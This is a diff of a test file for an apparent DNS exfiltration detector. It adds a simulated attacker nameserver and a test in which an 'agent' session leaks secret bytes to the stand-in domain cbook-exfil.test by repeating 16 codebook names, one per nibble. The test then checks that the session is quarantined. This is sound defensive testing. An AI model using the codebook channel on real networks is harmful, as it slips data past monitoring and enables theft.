@@ -10,23 +10,29 @@ import { base32, prng } from '../../fixtures/corpora/generate.mjs';
 import { query } from '../helpers/dns-client.js';
 import { startWarden, type Warden } from '../helpers/warden.js';
 
-type Behaviour = 'silent' | 'late';
+type Behaviour = 'silent' | 'late' | 'prompt';
 
 interface Attacker {
   readonly port: number;
   /** Distinct labels received (the attacker decodes each once). */
   readonly labels: Set<string>;
+  /** The first label of every question, in arrival order (a codebook's data is which name came, and when). */
+  readonly arrivals: string[];
   received: number;
   close(): Promise<void>;
 }
 
-/** The attacker's nameserver: records the first label of every question; never answers, or answers after `lateMs`. */
-async function startAttacker(behaviour: Behaviour, lateMs = 1500): Promise<Attacker> {
+/**
+ * The attacker's nameserver: records the first label of every question; never answers, answers after `lateMs`,
+ * or answers at once ('prompt'). Its answers are NODATA without an SOA: nothing in them may be cached (TTL 0).
+ */
+async function startAttacker(behaviour: Behaviour, lateMs = behaviour === 'prompt' ? 0 : 1500): Promise<Attacker> {
   const sock = dgram.createSocket('udp4');
   const timers = new Set<NodeJS.Timeout>();
   const a: Attacker = {
     port: 0,
     labels: new Set(),
+    arrivals: [],
     received: 0,
     close: () => {
       for (const t of timers) clearTimeout(t);
@@ -36,15 +42,21 @@ async function startAttacker(behaviour: Behaviour, lateMs = 1500): Promise<Attac
   sock.on('message', (msg, rinfo) => {
     if (msg.length < 13) return;
     a.received++;
-    a.labels.add(msg.toString('latin1', 13, 13 + msg[12]!).toLowerCase());
+    const label = msg.toString('latin1', 13, 13 + msg[12]!).toLowerCase();
+    a.labels.add(label);
+    a.arrivals.push(label);
     if (behaviour === 'silent') return;
-    // the question back with RA/AA, no answer records: NOERROR/NODATA, two seconds late
+    // the question back with RA/AA, no answer records: NOERROR/NODATA, late (or at once)
     let end = 12;
     while (end < msg.length && msg[end] !== 0) end += msg[end]! + 1;
     const reply = Buffer.from(msg.subarray(0, end + 5));
     reply.writeUInt16BE(0x8480 | (msg.readUInt16BE(2) & 0x0100), 2);
     reply.writeUInt16BE(1, 4);
     reply.fill(0, 6, 12);
+    if (lateMs === 0) {
+      sock.send(reply, rinfo.port, rinfo.address);
+      return;
+    }
     const t = setTimeout(() => {
       timers.delete(t);
       sock.send(reply, rinfo.port, rinfo.address);
@@ -111,4 +123,46 @@ describe('attack lab: labels are counted when they leave, not when an answer com
     expect(r.reached).toBeGreaterThan(0);
     expect(r.bytes).toBeLessThanOrEqual(512);
   }, 90_000);
+});
+
+// The repeat channel: 16 fixed two-letter names, one per secret nibble, asked again and again while the attacker's
+// nameserver answers at once with nothing cacheable. No name is new after the first 16, so no label budget sees
+// it; which name arrives is the data. Before the repeat budget: 1,024 queries, all answered, 504 of 512 secret
+// bytes decoded at the attacker (bench/lab.mjs LAB_CLASSES=codebook), never quarantined.
+const CODEBOOK = ['ab', 'cd', 'ef', 'gh', 'ij', 'kl', 'mn', 'op', 'qr', 'st', 'uv', 'wx', 'yz', 'ba', 'dc', 'fe'];
+
+describe('attack lab: the repeat channel', () => {
+  for (const type of ['interactive', 'batch'] as const) {
+    it(`a codebook of 16 known names, a nibble a query, nothing cached (${type}): quarantined before 512 secret bytes arrive`, async () => {
+      attacker = await startAttacker('prompt');
+      warden = await startWarden({
+        sessions: { static: [{ id: 'lab-1', addresses: ['127.0.0.1/32'], type, user: 'mallory', role: 'agent' }] },
+        upstreams: [{ address: `127.0.0.1:${attacker.port}`, timeout_ms: 1000 }],
+        policy: { session_types: { [type]: { bandwidth_bytes_per_min: 1e9 } } },
+      });
+      const r = prng(512);
+      const secret = r.bytes(512);
+      let quarantined = false;
+      let why = '';
+      let answered = 0;
+      const started = Date.now();
+      for (let i = 0; i < secret.length * 2 && !quarantined && Date.now() - started < 60_000; i++) {
+        const nibble = i % 2 === 0 ? secret[i >> 1]! >> 4 : secret[i >> 1]! & 15;
+        const rep = await query({ server: warden.dns, name: `${CODEBOOK[nibble]}.cbook-exfil.test`, type: 'A', timeoutMs: 3000 });
+        if (rep.rcode === 'NOERROR') answered++;
+        quarantined = rep.ede?.code === 15 && /session quarantined/.test(rep.ede.text);
+        if (quarantined) why = rep.ede!.text;
+      }
+      // the attacker's decode: every arrival past the first sighting of each name is a nibble
+      const nibbles = attacker.arrivals.filter((l) => CODEBOOK.includes(l)).length - CODEBOOK.length;
+      const bytes = Math.floor(nibbles / 2);
+      expect(answered).toBeGreaterThan(100); // the repeats did leave and were answered until the budget ran out
+      expect(quarantined).toBe(true);
+      expect(why).toMatch(/^session quarantined \(qr-[^)]+\): ~\d+ B in which known names were asked again$/);
+      const listed = (await warden.admin('/v1/quarantines')).json as { quarantines: { session: { id: string } }[] };
+      expect(listed.quarantines.map((q) => q.session.id)).toEqual(['lab-1']);
+      expect(bytes).toBeGreaterThan(256);
+      expect(bytes).toBeLessThanOrEqual(512);
+    }, 90_000);
+  }
 });
